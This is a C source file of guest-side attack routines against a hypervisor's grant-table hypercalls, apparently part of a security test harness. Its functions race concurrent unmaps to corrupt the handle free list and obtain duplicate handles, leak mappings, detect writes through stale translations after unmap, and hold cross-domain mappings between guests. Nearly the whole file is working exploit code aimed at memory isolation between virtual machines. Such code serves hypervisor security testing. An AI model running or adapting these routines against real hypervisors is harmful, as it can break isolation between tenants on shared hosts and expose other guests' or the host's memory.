/* Grant handles: two vCPUs unmap the two halves of one handle (host and device) at the same time. */
#include "attack.h"

struct map { u64 host; u32 flags, ref; u16 domain; short status; u32 handle; u64 bus; } __attribute__((packed));
struct unmap { u64 host, bus; u32 handle; short status, pad; } __attribute__((packed));
struct setup { u16 domain, pad; u32 frames; short status, pad2; u32 pad3; u64 *list; } __attribute__((packed));
struct entry { u16 flags, domid; u32 frame; };
enum { MAP = 0, UNMAP = 1, SETUP = 2, DEVICE_MAP = 1, HOST_MAP = 2, REF = 9 };

static struct entry *grants;
static u16 self;
static volatile u64 shared_handle, frame;
static volatile u32 turn, answered;

static s32 map(struct map *m, void *at, u32 flags) {
    *m = (struct map){(u64)at, flags, REF, self, 0, 0, 0};
    hypercall(HYPERVISOR_grant_table_op, MAP, (u64)m, 1, 0);
    return m->status;
}
static s32 unmap(void *at, u64 bus, u32 handle) {
    struct unmap u = {(u64)at, bus, handle, 0, 0};
    hypercall(HYPERVISOR_grant_table_op, UNMAP, (u64)&u, 1, 0);
    return u.status;
}
/* Sets up the table and grants REF to this domain itself. Returns the domain's number, by which it can map that grant. */
static int open_table(void) {
    static u64 frames[1];
    static struct setup s = {DOMID_SELF, 0, 1, 0, 0, 0, frames};
    struct map m;
    if (hypercall(HYPERVISOR_grant_table_op, SETUP, (u64)&s, 1, 0) || s.status) return 0;
    grants = map_frame(frames[0], 3);
    frame = mfn_of(pool[0]);
    for (self = 1; self < 500; self++) {
        grants[REF] = (struct entry){1, self, frame};
        if (map(&m, pool[1], HOST_MAP)) continue;
        return !unmap(pool[1], 0, m.handle);
    }
    return 0;
}

static void unmap_device(u32 me) {
    (void)me;
    for (u32 seen = 0; !stop;) {
        u32 t = turn;
        if (t == seen) continue;
        unmap(0, frame << 12, shared_handle);
        answered = seen = t;
    }
}

void attack_handle(void) {
    static struct map m, a, b;
    u64 rounds = option("rounds", 3000), mapped = 0, twice = 0;
    if (!open_table()) { print("END no grant table\n"); return; }
    give_job(1, unmap_device);
    for (u64 i = 0; i < rounds && twice < 4; i++) {
        if (map(&m, pool[1], DEVICE_MAP | HOST_MAP)) continue;
        mapped++;
        shared_handle = m.handle;
        fence();
        u32 mine = ++turn;
        for (volatile u64 k = 0; k < (i & 127); k++);
        unmap(pool[1], 0, m.handle);
        while (answered != mine) asm volatile("pause");
        /* If the list of free handles has become a circle, two mappings at the same time get the same handle. */
        s32 first = map(&a, pool[2], HOST_MAP), second = map(&b, pool[3], HOST_MAP);
        if (!first && !second && a.handle == b.handle) twice++;
        if (!first) unmap(pool[2], 0, a.handle);
        if (!second) unmap(pool[3], 0, b.handle);
    }
    stop = 1;
    print("END mapped %u twice %u\n", mapped, twice);
}

/* Leaves grants of its own mapped and copied, and ends like that. */
void attack_leak(void) {
    static struct map m;
    u64 mapped = 0;
    if (!open_table()) { print("END no grant table\n"); return; }
    for (u64 i = 0; i < 32; i++) mapped += !map(&m, pool[8 + i], i & 1 ? HOST_MAP : HOST_MAP | DEVICE_MAP);
    static struct { u64 source; u16 sdom, soff, pad[2]; u64 dest; u16 ddom, doff, pad2[2]; u16 len, flags; short status; u16 pad3; } c;
    u64 copied = 0;
    for (u64 i = 0; i < 1000; i++) {
        c.source = REF; c.sdom = self; c.dest = mfn_of(pool[50]); c.ddom = DOMID_SELF; c.len = 4096; c.flags = 1;
        hypercall(HYPERVISOR_grant_table_op, 5, (u64)&c, 1, 0);
        copied += !c.status;
    }
    print("END mapped %u copied %u\n", mapped, copied);
}

/*
 * Writes through a mapping for as long as it can. Once the grant's marks are gone, its frame belongs to the granter alone. A write that still arrives
 * then was made through a translation that should not exist any more.
 */
enum { LATE_MAPS = 48 };
static volatile u64 late_writes, late_rounds, tried;

static void write_late(u32 me) {
    (void)me;
    volatile u64 *through = (volatile u64 *)pool[1], *own = (volatile u64 *)pool[0];
    for (u64 n = 1; !stop; n++) {
        u32 t = turn;
        int given_back = !(*(volatile u16 *)&grants[REF].flags & 24);
        *through = n;
        fence();
        if (given_back && t == turn && t % 2 && *own == n) late_writes++;
        tried++;
    }
}

void attack_late(void) {
    static struct map m[LATE_MAPS];
    static struct unmap u[LATE_MAPS];
    u64 rounds = option("rounds", 300);
    if (!open_table()) { print("END no grant table\n"); return; }
    for (int i = 1; i < LATE_MAPS; i++) grants[REF + i] = (struct entry){1, self, mfn_of(pool[50])};
    expected_first = (u64)pool[1];
    expected_last = expected_first + PAGE;
    set_entry(pool[1], 0, UVMF_TLB_FLUSH);
    give_job(1, write_late);
    for (u64 i = 0; i < rounds; i++) {
        for (int k = 0; k < LATE_MAPS; k++) m[k] = (struct map){(u64)pool[1 + k], HOST_MAP, REF + k, self, 0, 0, 0};
        hypercall(HYPERVISOR_grant_table_op, MAP, (u64)m, LATE_MAPS, 0);
        for (int k = 0; k < LATE_MAPS; k++) u[k] = (struct unmap){(u64)pool[1 + k], 0, m[k].handle, 0, 0};
        u64 end = now() + 100000;
        while (now() < end) asm volatile("pause");
        turn++;                                    /* odd: what is seen from now on belongs to this round */
        hypercall(HYPERVISOR_grant_table_op, UNMAP, (u64)u, LATE_MAPS, 0);
        late_rounds += !m[0].status && !u[0].status;
        /* Whatever happens on the pCPU of the other vCPU: by then it has made a whole write, or has tried to. */
        u64 before = tried, faulted = faults[1];
        while (tried < before + 2 && faults[1] == faulted) asm volatile("pause");
        turn++;
    }
    stop = 1;
    print("END unmapped %u late %u faults %u\n", late_rounds, late_writes, faults[1]);
}

/* Two guests: one offers its frame to the domain that the option "peer" names, and the other maps what that domain offers. Neither drops it. */
static void stay(void) {
    print("BEGIN\n");
    for (;;) hypercall(HYPERVISOR_sched_op, SCHEDOP_block, 0, 0, 0);
}
void attack_offer(void) {
    if (!open_table()) { print("END no grant table\n"); return; }
    grants[REF] = (struct entry){1, option("peer", 0), frame};
    stay();
}
void attack_hold(void) {
    struct map m;
    do {
        m = (struct map){(u64)pool[1], HOST_MAP, REF, option("peer", 0), 0, 0, 0};
        hypercall(HYPERVISOR_grant_table_op, MAP, (u64)&m, 1, 0);
    } while (m.status);
    stay();
}
